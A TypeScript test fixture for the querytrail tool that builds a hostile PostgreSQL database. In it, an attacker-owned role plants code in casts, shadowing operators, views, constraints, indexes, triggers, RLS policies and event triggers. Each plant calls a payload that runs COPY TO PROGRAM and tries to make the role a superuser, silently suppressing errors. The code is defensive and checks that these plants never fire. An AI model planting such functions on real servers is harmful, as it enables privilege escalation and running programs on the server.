// A database whose owner is the attacker. Mallory owns database `hostile` and plants everything a
// database owner can plant (plus, created by a superuser, what an owner who is superuser of their own
// server could plant) so that code of hers runs with OUR privileges whenever querytrail reads her
// database carelessly: casts, operators that capture unqualified catalog SQL, a view folded at plan
// time, CHECK, DEFAULT, index expression, trigger, row-level-security policy, event triggers, and
// database-level settings. Every plant calls one payload, mallory.pwn(tag), which tries in turn to
// make the session writable, write a canary row, run a program on the machine of whoever executes
// it (COPY TO PROGRAM: it `touch`es <sentinelDir>/<tag>@<port>) and make mallory a superuser. Each
// step swallows its own error, as a real attacker would, so the read that triggered it succeeds
// and nothing looks wrong from the outside.
//
// What proves nothing happened: the canary table stays empty, mallory's tables' write counters do
// not move, no file appears in the sentinel folder (the user's server and querytrail's shadow
// planner run on this same machine, so a file appears whichever of them ran the payload; the port in
// its name tells which), and the set of superusers and of roles allowed to run server programs is
// unchanged. Which planted functions ran at all (in any session on her server) is counted through
// pg_stat_user_functions, for the failure message.
//
// Not planted: a type whose output function writes. Output functions can only be written in C,
// which needs a superuser and a compiled library; the enum and composite types below with their
// own casts to json and text are what an owner can really plant to run code when a value of her
// type is converted.
import { chmodSync, existsSync, mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import pg from 'pg';
import type { PostgresServer } from './postgres';

export const HOSTILE_DATABASE = 'hostile';
const OWNER = { name: 'mallory', password: 'mallory-pw' };
const READER = { name: 'reader', password: 'reader-pw' };

/** Texts that sit in pg_stat_statements to trouble the reader: each must be skipped or classified quickly. */
// `(` + n empty comments + SELECT: PostgreSQL 18 keeps the comments (they follow the statement's
// first token; comments before it are dropped) and a backtracking classifier needs about 2^n steps
// on it when no system catalog is named (one named at the end lets the match succeed at once, which
// is no bait). n is chosen so that such
// a classifier takes a second or more (the test fails) rather than hours (the run would hang: each
// added comment doubles it).
const BAIT_COMMENTS = 26;
export const BACKTRACKING_BAIT = [`(${'/**/'.repeat(BAIT_COMMENTS)}SELECT 1)`, `(${'/**/'.repeat(BAIT_COMMENTS)}SELECT 1, 2)`];
/** The same, as pg_stat_statements stores them (constants replaced by $n). */
export const BACKTRACKING_BAIT_STORED = [`(${'/**/'.repeat(BAIT_COMMENTS)}SELECT $1)`, `(${'/**/'.repeat(BAIT_COMMENTS)}SELECT $1, $2)`];

/** Application statements in pg_stat_statements that a reader should keep (texts as PostgreSQL 18 stores them). */
export const APP_QUERIES = {
  byId: 'SELECT id, name FROM mallory.items WHERE id = $1',
  byName: 'SELECT id FROM mallory.items WHERE name = $1',
  throughView: 'SELECT id, name FROM mallory.items_view WHERE id = $1',
};

// Tags of the plants, as they appear in canary rows, sentinel file names and function names.
const CAST_TAGS = ['cast_json', 'cast_text', 'pair_text', 'pair_json'] as const;
const OPERATORS = [
  { tag: 'op_like_name', op: '~~', type: 'name' },
  { tag: 'op_notlike_name', op: '!~~', type: 'name' },
  { tag: 'op_eq_name', op: '=', type: 'name' },
  { tag: 'op_like_text', op: '~~', type: 'text' },
  { tag: 'op_notlike_text', op: '!~~', type: 'text' },
  { tag: 'op_eq_text', op: '=', type: 'text' },
] as const;

export interface Observation {
  /** n_tup_ins/upd/del per table of mallory's. */
  writes: Record<string, string>;
  canary: { tag: string; who: string }[];
  /** Files in the sentinel folder: `<tag>@<port>`. */
  sentinels: string[];
  superusers: string[];
  /** Members of pg_execute_server_program and pg_write_server_files. */
  serverProgramRoles: string[];
  /** Settings stored for the hostile database (ALTER DATABASE ... SET). */
  databaseSettings: string[];
  /** Calls of mallory's planted functions (pg_stat_user_functions), by name. */
  plantedCalls: Record<string, number>;
}

export interface Changes {
  /** What must never happen: each entry is one write, program run or escalation, in words. */
  violations: string[];
  /** Planted functions that ran since (diagnostic: code of hers executed in some session on her server). */
  ran: string[];
}

export interface HostileDatabase {
  server: PostgresServer;
  /** Superuser connection string to the hostile database. */
  superuserUrl: string;
  /** A role that is not a superuser, member of pg_read_all_stats, as a careful user would give us. */
  readerUrl: string;
  readerRole: string;
  sentinelDir: string;
  /** A path in the sentinel folder for a payload sent by a test (e.g. a multi-statement query). */
  sentinelPath(name: string): string;
  observe(): Promise<Observation>;
  /** Observes now and lists what changed since `before`. */
  changesSince(before: Observation): Promise<Changes>;
  /** Empties the canary and the sentinel folder and undoes any escalation, so tests start clean. */
  reset(): Promise<void>;
  close(): Promise<void>;
}

async function connect(config: pg.ClientConfig): Promise<pg.Client> {
  const client = new pg.Client(config);
  await client.connect();
  return client;
}

/** A superuser session that plants nothing on itself: no event triggers fire, only pg_catalog is searched. */
function adminClient(server: PostgresServer): Promise<pg.Client> {
  return connect({
    connectionString: server.url(HOSTILE_DATABASE),
    // and its own statements stay out of pg_stat_statements, which the readers under test read
    options: '-c event_triggers=off -c search_path=pg_catalog,pg_temp -c pg_stat_statements.track=none',
  });
}

async function withClient<T>(connect: () => Promise<pg.Client>, work: (client: pg.Client) => Promise<T>): Promise<T> {
  const client = await connect();
  try {
    return await work(client);
  } finally {
    await client.end();
  }
}

function urlFor(server: PostgresServer, role: { name: string; password: string }): string {
  return `postgres://${role.name}:${role.password}@127.0.0.1:${server.port}/${HOSTILE_DATABASE}`;
}

const literal = (value: string) => `'${value.replaceAll("'", "''")}'`;

/** The payload and one function per plant (so pg_stat_user_functions tells which plant ran). */
function payloadSql(sentinelDir: string): string {
  const wrapper = (tag: string, volatility = 'VOLATILE') => `
    CREATE FUNCTION mallory.via_${tag}() RETURNS boolean LANGUAGE plpgsql ${volatility} SET search_path = pg_catalog, pg_temp
      AS $f$ BEGIN RETURN mallory.pwn('${tag}'); END $f$;`;
  return `
    CREATE SCHEMA mallory;
    GRANT USAGE ON SCHEMA mallory TO PUBLIC;
    CREATE TABLE mallory.canary (
      tag text NOT NULL,
      who name NOT NULL DEFAULT current_user,
      session_who name NOT NULL DEFAULT session_user,
      at timestamptz NOT NULL DEFAULT clock_timestamp()
    );
    -- whoever runs the payload may write here, so a write that gets past read-only shows up
    GRANT SELECT, INSERT ON mallory.canary TO PUBLIC;

    -- Runs with the privileges of whoever calls it (SECURITY INVOKER): that is the threat.
    CREATE FUNCTION mallory.pwn(tag text) RETURNS boolean LANGUAGE plpgsql VOLATILE SET search_path = pg_catalog, pg_temp AS $pwn$
    BEGIN
      BEGIN -- make the rest of this session read-write
        PERFORM set_config('default_transaction_read_only', 'off', false);
      EXCEPTION WHEN OTHERS THEN NULL;
      END;
      BEGIN
        INSERT INTO mallory.canary (tag) VALUES (tag);
      EXCEPTION WHEN OTHERS THEN NULL;
      END;
      BEGIN -- a program on the machine of whoever runs this (needs superuser or pg_execute_server_program)
        EXECUTE format('COPY (SELECT 1) TO PROGRAM %L', format('touch %s/%s@%s', ${literal(sentinelDir)}, tag, current_setting('port')));
      EXCEPTION WHEN OTHERS THEN NULL;
      END;
      BEGIN
        ALTER ROLE mallory SUPERUSER;
      EXCEPTION WHEN OTHERS THEN NULL;
      END;
      RETURN true;
    END
    $pwn$;

    ${wrapper('check')}
    ${wrapper('default')}
    ${wrapper('rls')}
    ${wrapper('view_row')}
    -- declared IMMUTABLE (a lie): the planner evaluates it while planning, so EXPLAIN alone runs it
    ${wrapper('view_plan', 'IMMUTABLE')}
    CREATE FUNCTION mallory.via_index(v bigint) RETURNS bigint LANGUAGE plpgsql IMMUTABLE SET search_path = pg_catalog, pg_temp
      AS $f$ BEGIN PERFORM mallory.pwn('index'); RETURN v; END $f$;
    CREATE FUNCTION mallory.via_trigger() RETURNS trigger LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp
      AS $f$ BEGIN PERFORM mallory.pwn('trigger'); RETURN coalesce(NEW, OLD); END $f$;
    CREATE FUNCTION mallory.via_event() RETURNS event_trigger LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp
      AS $f$ BEGIN PERFORM mallory.pwn('event_' || TG_EVENT); END $f$;
  `;
}

/** Types of hers whose conversions to json and text run her code (row_to_json uses a type's cast to json). */
const TYPES_SQL = `
  CREATE TYPE mallory.mood AS ENUM ('calm', 'angry');
  CREATE TYPE mallory.pair AS (a int, b text);
  CREATE FUNCTION mallory.via_cast_json(m mallory.mood) RETURNS json LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp
    AS $f$ BEGIN PERFORM mallory.pwn('cast_json'); RETURN to_json(format('%s', m)); END $f$;
  CREATE FUNCTION mallory.via_cast_text(m mallory.mood) RETURNS text LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp
    AS $f$ BEGIN PERFORM mallory.pwn('cast_text'); RETURN format('%s', m); END $f$;
  CREATE FUNCTION mallory.via_pair_json(p mallory.pair) RETURNS json LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp
    AS $f$ BEGIN PERFORM mallory.pwn('pair_json'); RETURN to_json(format('%s', p)); END $f$;
  CREATE FUNCTION mallory.via_pair_text(p mallory.pair) RETURNS text LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp
    AS $f$ BEGIN PERFORM mallory.pwn('pair_text'); RETURN format('%s', p); END $f$;
  CREATE CAST (mallory.mood AS json) WITH FUNCTION mallory.via_cast_json(mallory.mood);
  CREATE CAST (mallory.mood AS text) WITH FUNCTION mallory.via_cast_text(mallory.mood);
  CREATE CAST (mallory.pair AS json) WITH FUNCTION mallory.via_pair_json(mallory.pair);
  CREATE CAST (mallory.pair AS text) WITH FUNCTION mallory.via_pair_text(mallory.pair);
`;

/**
 * Operators in public that shadow PostgreSQL's: (name, name) is an exact match for `nspname LIKE
 * 'pg_%'`, so it wins over pg_catalog's (name, text) even with pg_catalog searched first; with
 * the database's search_path set to public first (below), the (text, text) and = ones win too.
 */
const OPERATORS_SQL = OPERATORS.map(
  ({ tag, op, type }) => `
  CREATE FUNCTION mallory.via_${tag}(a ${type}, b ${type}) RETURNS boolean LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp
    AS $f$ BEGIN PERFORM mallory.pwn('${tag}'); RETURN a::text OPERATOR(pg_catalog.${op}) b::text; END $f$;
  CREATE OPERATOR public.${op} (LEFTARG = ${type}, RIGHTARG = ${type}, FUNCTION = mallory.via_${tag});`,
).join('\n');

const TABLES_SQL = `
  CREATE TABLE mallory.items (
    id bigint PRIMARY KEY,
    name text NOT NULL,
    mood mallory.mood NOT NULL,
    pair mallory.pair,
    flag boolean DEFAULT mallory.via_default(),
    CONSTRAINT items_check CHECK (mallory.via_check())
  ) WITH (autovacuum_enabled = false); -- autovacuum's ANALYZE would run via_index as mallory: her code, not ours
  CREATE INDEX items_key ON mallory.items ((mallory.via_index(id)));
  CREATE TRIGGER items_trigger BEFORE INSERT OR UPDATE OR DELETE ON mallory.items FOR EACH ROW EXECUTE FUNCTION mallory.via_trigger();
  INSERT INTO mallory.items (id, name, mood, pair)
    SELECT g, 'item ' || g, (CASE WHEN g % 3 OPERATOR(pg_catalog.=) 0 THEN 'angry' ELSE 'calm' END)::mallory.mood, ROW(g, 'p' || g)::mallory.pair
    FROM generate_series(1, 300) g;

  CREATE TABLE mallory.secrets (id int PRIMARY KEY, note text NOT NULL);
  INSERT INTO mallory.secrets SELECT g, 'note ' || g FROM generate_series(1, 20) g;
  ALTER TABLE mallory.secrets ENABLE ROW LEVEL SECURITY;
  ALTER TABLE mallory.secrets FORCE ROW LEVEL SECURITY;
  CREATE POLICY peek ON mallory.secrets USING (mallory.via_rls());

  CREATE VIEW mallory.items_view AS
    SELECT i.id, i.name, mallory.via_view_row() AS touched FROM mallory.items i WHERE mallory.via_view_plan();

  -- she wants us to read all of it
  GRANT SELECT ON ALL TABLES IN SCHEMA mallory TO PUBLIC;
  ANALYZE mallory.items;
  ANALYZE mallory.secrets;
`;

/** Settings every session on her database starts with, unless the client overrides them. */
const DATABASE_SETTINGS_SQL = `
  ALTER DATABASE ${HOSTILE_DATABASE} SET search_path = public, pg_catalog;
  ALTER DATABASE ${HOSTILE_DATABASE} SET default_transaction_read_only = off;
`;

async function runWorkload(url: string): Promise<void> {
  await withClient(
    () => connect({ connectionString: url }),
    async (client) => {
      for (let i = 1; i <= 5; i++) await client.query(APP_QUERIES.byId, [i]);
      for (let i = 1; i <= 3; i++) await client.query(APP_QUERIES.byName, [`item ${i}`]);
      for (let i = 1; i <= 2; i++) await client.query(APP_QUERIES.throughView, [i]);
      for (const bait of BACKTRACKING_BAIT) await client.query(bait);
      // PostgreSQL 18 keeps `SAVEPOINT $1`, which libpg_query cannot parse
      await client.query('BEGIN');
      await client.query('SAVEPOINT before_update');
      await client.query('RELEASE SAVEPOINT before_update');
      await client.query('COMMIT');
    },
  );
}

function listSentinels(dir: string): string[] {
  return existsSync(dir) ? readdirSync(dir).sort() : [];
}

async function observe(server: PostgresServer, sentinelDir: string): Promise<Observation> {
  return withClient(
    () => adminClient(server),
    async (client) => {
      // Stats of a session reach the shared counters when it ends (or goes idle): wait until every
      // other session on her database is gone, then a moment for the last one to flush.
      const deadline = Date.now() + 5_000;
      while (Date.now() < deadline) {
        const { rows } = await client.query<{ n: number }>(
          `SELECT count(*)::int AS n FROM pg_stat_activity
           WHERE datname = $1 AND pid <> pg_backend_pid() AND backend_type = 'client backend'`,
          [HOSTILE_DATABASE],
        );
        if (rows[0]!.n === 0) break;
        await new Promise((resolve) => setTimeout(resolve, 50));
      }
      await new Promise((resolve) => setTimeout(resolve, 300));
      await client.query('SELECT pg_stat_clear_snapshot()');
      const writes = await client.query<{ name: string; w: string }>(
        `SELECT relname AS name, format('%s inserted, %s updated, %s deleted', n_tup_ins, n_tup_upd, n_tup_del) AS w
         FROM pg_stat_user_tables WHERE schemaname IN ('mallory', 'public') ORDER BY 1`,
      );
      const canary = await client.query<{ tag: string; who: string }>(`SELECT tag, who::text AS who FROM mallory.canary ORDER BY at`);
      const superusers = await client.query<{ name: string }>(`SELECT rolname::text AS name FROM pg_roles WHERE rolsuper ORDER BY 1`);
      const programs = await client.query<{ name: string }>(
        `SELECT DISTINCT r.rolname::text AS name FROM pg_roles r
         WHERE r.rolname NOT LIKE 'pg\\_%' AND NOT r.rolsuper
           AND (pg_has_role(r.oid, 'pg_execute_server_program', 'MEMBER') OR pg_has_role(r.oid, 'pg_write_server_files', 'MEMBER'))
         ORDER BY 1`,
      );
      const settings = await client.query<{ s: string }>(
        `SELECT unnest(s.setconfig) AS s FROM pg_db_role_setting s JOIN pg_database d ON d.oid = s.setdatabase
         WHERE d.datname = $1 ORDER BY 1`,
        [HOSTILE_DATABASE],
      );
      const calls = await client.query<{ name: string; calls: string }>(
        `SELECT funcname::text AS name, calls::text FROM pg_stat_user_functions WHERE schemaname = 'mallory' ORDER BY 1`,
      );
      return {
        writes: Object.fromEntries(writes.rows.map((r) => [r.name, r.w])),
        canary: canary.rows,
        sentinels: listSentinels(sentinelDir),
        superusers: superusers.rows.map((r) => r.name),
        serverProgramRoles: programs.rows.map((r) => r.name),
        databaseSettings: settings.rows.map((r) => r.s),
        plantedCalls: Object.fromEntries(calls.rows.map((r) => [r.name, Number(r.calls)])),
      };
    },
  );
}

export function compareObservations(before: Observation, after: Observation, serverPort: number): Changes {
  const violations: string[] = [];
  for (const [table, writes] of Object.entries(after.writes)) {
    if (table !== 'canary' && before.writes[table] !== writes) violations.push(`table mallory.${table} was written: ${before.writes[table]} -> ${writes}`);
  }
  const written = new Map<string, number>();
  for (const row of after.canary.slice(before.canary.length)) {
    const key = `"${row.tag}" written as ${row.who}`;
    written.set(key, (written.get(key) ?? 0) + 1);
  }
  for (const [key, count] of written) violations.push(`canary: ${count} row(s) ${key}`);
  for (const file of after.sentinels.filter((f) => !before.sentinels.includes(f))) {
    const port = file.split('@')[1];
    const where =
      port === undefined
        ? 'a statement sent to querytrail was run'
        : port === String(serverPort)
          ? `planted code (${file.split('@')[0]}) ran a program through the user's server`
          : `planted code (${file.split('@')[0]}) ran a program through another server on this machine (port ${port}: querytrail's own, e.g. the shadow planner)`;
    violations.push(`sentinel ${file} appeared: ${where}`);
  }
  if (after.superusers.join() !== before.superusers.join())
    violations.push(`superusers changed: ${before.superusers.join(', ')} -> ${after.superusers.join(', ')}`);
  if (after.serverProgramRoles.join() !== before.serverProgramRoles.join()) {
    violations.push(`roles allowed to run server programs changed: ${before.serverProgramRoles.join(', ')} -> ${after.serverProgramRoles.join(', ')}`);
  }
  if (after.databaseSettings.join() !== before.databaseSettings.join()) {
    violations.push(`database settings changed: ${before.databaseSettings.join(', ')} -> ${after.databaseSettings.join(', ')}`);
  }
  const ran = Object.entries(after.plantedCalls)
    .filter(([name, calls]) => calls > (before.plantedCalls[name] ?? 0))
    .map(([name, calls]) => `${name} x${calls - (before.plantedCalls[name] ?? 0)}`);
  return { violations, ran };
}

async function reset(server: PostgresServer, sentinelDir: string): Promise<void> {
  await withClient(
    () => adminClient(server),
    (client) => client.query(`TRUNCATE mallory.canary; ALTER ROLE ${OWNER.name} NOSUPERUSER; ALTER ROLE ${READER.name} NOSUPERUSER;`),
  );
  for (const file of listSentinels(sentinelDir)) rmSync(path.join(sentinelDir, file), { force: true });
}

/**
 * Proves the plants work: read the database carelessly (a superuser session with her settings,
 * unqualified SQL, row_to_json, a write rolled back) and every payload must leave its trace. Without
 * this, a test that finds no trace could pass because the payload itself was broken.
 */
async function selfCheck(server: PostgresServer, sentinelDir: string, readerUrl: string): Promise<void> {
  const careless = await connect({ connectionString: server.url(HOSTILE_DATABASE) });
  try {
    await careless.query(`SELECT row_to_json(s) FROM (SELECT * FROM mallory.items LIMIT 1) s`);
    await careless.query(`SELECT mood::text, pair::text, to_json(pair::json) FROM mallory.items LIMIT 1`);
    for (const predicate of [`nspname LIKE 'pg_toast%'`, `nspname NOT LIKE 'pg_temp%'`, `nspname = 'public'`]) {
      await careless.query(`SELECT count(*) FROM pg_namespace WHERE ${predicate}`);
    }
    await careless.query(`SELECT 'a'::text LIKE 'b'::text, 'a'::text NOT LIKE 'b'::text, 'a'::text = 'b'::text`);
    await careless.query(`EXPLAIN SELECT id FROM mallory.items_view`);
    await careless.query(`SELECT * FROM mallory.items_view LIMIT 1`);
    await careless.query(`INSERT INTO mallory.items (id, name, mood) VALUES (-1, 'probe', 'calm')`);
    await careless.query(`DELETE FROM mallory.items WHERE id = -1`);
    await careless.query(`CREATE TEMP TABLE probe ()`);
  } finally {
    await careless.end();
  }
  await withClient(
    () => connect({ connectionString: readerUrl }),
    (client) => client.query('SELECT * FROM mallory.secrets LIMIT 1'),
  );
  const seen = await observe(server, sentinelDir);
  const expectedTags = [
    ...CAST_TAGS,
    ...OPERATORS.map((o) => o.tag),
    'view_plan',
    'view_row',
    'check',
    'default',
    'index',
    'trigger',
    ...(server.major >= 17 ? ['event_login'] : []),
    'event_ddl_command_start',
  ];
  const files = new Set(seen.sentinels.map((f) => f.split('@')[0]));
  const rows = new Set(seen.canary.map((r) => r.tag));
  const problems = [
    ...expectedTags.filter((t) => !files.has(t)).map((t) => `no sentinel from ${t}`),
    ...[...expectedTags, 'rls'].filter((t) => !rows.has(t)).map((t) => `no canary row from ${t}`),
    ...(seen.superusers.includes(OWNER.name) ? [] : ['mallory was not made superuser']),
  ];
  if (problems.length) throw new Error(`The hostile fixture's plants do not fire as they should: ${problems.join('; ')}`);
}

/**
 * Creates database `hostile` owned by mallory on a freshly started server (PostgreSQL 18 with
 * pg_stat_statements preloaded, as startPostgres does), plants everything, fills pg_stat_statements
 * with her workload, and checks every plant fires when read carelessly.
 */
export async function createHostileDatabase(server: PostgresServer): Promise<HostileDatabase> {
  const sentinelDir = mkdtempSync(path.join(tmpdir(), 'qt-sentinel-'));
  // The servers may run as another OS user (postgres, or the shadow's own): anyone may create a file here.
  chmodSync(sentinelDir, 0o777);
  const ownerUrl = urlFor(server, OWNER);
  const readerUrl = urlFor(server, READER);

  await server.query(
    `CREATE ROLE ${OWNER.name} LOGIN PASSWORD ${literal(OWNER.password)};
     CREATE ROLE ${READER.name} LOGIN PASSWORD ${literal(READER.password)};
     GRANT pg_read_all_stats TO ${READER.name};`,
  );
  await server.query(`CREATE DATABASE ${HOSTILE_DATABASE} OWNER ${OWNER.name}`);
  // pg_stat_statements needs a superuser to install; counting function calls too (to tell which plants ran).
  await server.query(`CREATE EXTENSION pg_stat_statements; ALTER DATABASE ${HOSTILE_DATABASE} SET track_functions = 'pl';`, [], HOSTILE_DATABASE);
  await withClient(
    () => connect({ connectionString: ownerUrl }),
    async (client) => {
      await client.query(payloadSql(sentinelDir));
      await client.query(TYPES_SQL);
      await client.query(OPERATORS_SQL);
      await client.query(TABLES_SQL);
      await client.query(DATABASE_SETTINGS_SQL);
    },
  );
  // What an owner who is superuser of her own server adds: code run on every DDL and every login.
  await withClient(
    () => adminClient(server),
    (client) =>
      client.query(
        `CREATE EVENT TRIGGER mallory_ddl ON ddl_command_start EXECUTE FUNCTION mallory.via_event();
         ${server.major >= 17 ? 'CREATE EVENT TRIGGER mallory_login ON login EXECUTE FUNCTION mallory.via_event();' : ''}`,
      ),
  );
  await reset(server, sentinelDir);
  await selfCheck(server, sentinelDir, readerUrl);
  await reset(server, sentinelDir);
  // pg_stat_statements then holds her application's statements only (and what her login trigger ran)
  await withClient(
    () => adminClient(server),
    (client) => client.query('SELECT public.pg_stat_statements_reset()'),
  );
  await runWorkload(ownerUrl);
  await reset(server, sentinelDir);

  return {
    server,
    superuserUrl: server.url(HOSTILE_DATABASE),
    readerUrl,
    readerRole: READER.name,
    sentinelDir,
    sentinelPath: (name) => path.join(sentinelDir, name),
    observe: () => observe(server, sentinelDir),
    changesSince: async (before) => compareObservations(before, await observe(server, sentinelDir), server.port),
    reset: () => reset(server, sentinelDir),
    close: async () => {
      rmSync(sentinelDir, { recursive: true, force: true });
    },
  };
}
